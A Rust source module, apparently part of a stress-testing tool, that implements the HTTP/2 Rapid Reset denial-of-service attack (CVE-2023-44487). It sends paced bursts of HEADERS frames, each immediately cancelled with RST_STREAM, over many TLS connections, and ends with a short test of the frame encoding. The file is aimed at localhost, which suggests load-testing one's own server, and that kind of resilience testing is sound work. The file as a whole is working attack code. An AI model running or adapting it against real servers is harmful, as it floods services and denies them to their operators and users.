//! HTTP/2 requests that are reset as soon as they are sent (CVE-2023-44487), frame by frame.

use super::{Attack, Field, PATIENCE};
use crate::siege::sockets::connect;
use anyhow::{Context, Result};
use rustls::crypto::aws_lc_rs::default_provider;
use rustls::pki_types::CertificateDer;
use rustls::pki_types::pem::PemObject;
use rustls::{ClientConfig, ClientConnection, RootCertStore, StreamOwned};
use std::io::{ErrorKind, Read, Write};
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

const ADDRESSES: usize = 2;
/// Requests with their resets that are sent at once.
const BURST: u32 = 100;
/// Bursts a second of each address at most.
const BURSTS_A_SECOND: u32 = 50;
/// Streams of a connection before it is replaced.
const STREAMS_MAX: u32 = 20_000;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Types and flags of frames (RFC 9113 section 6).
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const END_STREAM_AND_HEADERS: u8 = 5;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

pub(super) fn run(field: &Field<'_>) {
    let config = match config(field) {
        Ok(config) => Arc::new(config),
        Err(error) => return field.count(Attack::Resets, format!("{error:#}")),
    };
    thread::scope(|scope| {
        for number in 0..ADDRESSES {
            let config = &config;
            scope.spawn(move || {
                while !field.is_over() {
                    let ended = connection(field, config, number);
                    let why = ended.err().map_or_else(|| "connections".into(), |error| format!("{error:#}"));
                    field.count(Attack::Resets, why);
                    thread::sleep(Duration::from_millis(20));
                }
            });
        }
    });
}

fn connection(field: &Field<'_>, config: &Arc<ClientConfig>, number: usize) -> Result<()> {
    let socket = connect(Attack::Resets.address(number), field.arguments.https, PATIENCE)?;
    let session = ClientConnection::new(Arc::clone(config), "localhost".try_into()?)?;
    let mut stream = StreamOwned::new(session, socket);
    stream.write_all(PREFACE)?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[]))?;
    stream.flush()?;
    stream.sock.set_read_timeout(Some(Duration::from_millis(1)))?;
    let request = request();
    let mut id = 1;
    while id < STREAMS_MAX && !field.is_over() {
        let begun = Instant::now();
        let mut burst = Vec::new();
        for _ in 0..BURST {
            burst.extend(frame(HEADERS, END_STREAM_AND_HEADERS, id, &request));
            burst.extend(frame(RST_STREAM, 0, id, &CANCEL));
            id += 2;
        }
        if stream.write_all(&burst).and_then(|()| stream.flush()).is_err() {
            field.count(Attack::Resets, "ended by the server");
            return Ok(());
        }
        field.count(Attack::Resets, format!("bursts of {BURST}"));
        match stream.read(&mut [0; 16 << 10]) {
            Ok(0) => break,
            Err(error) if !matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                field.count(Attack::Resets, "ended by the server");
                return Ok(());
            }
            _ => {}
        }
        field.pace(begun, BURSTS_A_SECOND);
    }
    Ok(())
}

fn config(field: &Field<'_>) -> Result<ClientConfig> {
    let certificate = field.arguments.certificate.as_deref().context("no certificate")?;
    let mut roots = RootCertStore::empty();
    roots.add(CertificateDer::from_pem_file(certificate).context("reading the certificate")?)?;
    let mut config = ClientConfig::builder_with_provider(Arc::new(default_provider()))
        .with_safe_default_protocol_versions()?
        .with_root_certificates(roots)
        .with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    Ok(config)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// `GET https://localhost/api/v1/titles` in HPACK: the static table and two literals (RFC 7541).
fn request() -> Vec<u8> {
    let mut block = vec![0x82, 0x87];
    for (name, value) in [(0x04, "/api/v1/titles"), (0x01, "localhost")] {
        block.extend([name, value.len() as u8]);
        block.extend(value.as_bytes());
    }
    block
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_has_its_length_and_stream() {
        assert_eq!(frame(RST_STREAM, 0, 3, &CANCEL), [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
        assert_eq!(request()[..4], [0x82, 0x87, 0x04, 14]);
    }
}
